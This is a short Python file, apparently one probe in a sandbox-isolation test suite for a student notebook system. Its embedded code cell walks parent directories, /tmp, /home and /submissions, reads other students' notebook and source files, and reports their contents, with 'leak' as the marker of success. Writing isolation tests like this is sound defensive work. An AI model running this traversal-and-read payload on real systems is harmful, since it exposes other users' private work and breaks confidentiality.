"""The notebooks of other students, by the known path and through `..`."""

TRIES = "../*/*/*.ipynb and its relatives"
SUCCESS = "leak"
CELL = r"""
import glob
import os

patterns = ["@CLASS@/*/*/*", "@CLASSMATE@", "../*", "../*/*", "../../*/*/*", "../../../*/*/*/*"]
patterns += ["/submissions/*/*", "/tmp/*/*.ipynb", "/tmp/*.ipynb", "/home/*/*.ipynb"]
for pattern in patterns:
    for path in glob.glob(pattern):
        if os.path.isfile(path) and path.endswith((".ipynb", ".py", ".json")):
            try:
                with open(path, "rb") as file:
                    tell(file.read(5_000_000))
            except OSError:
                pass
"""
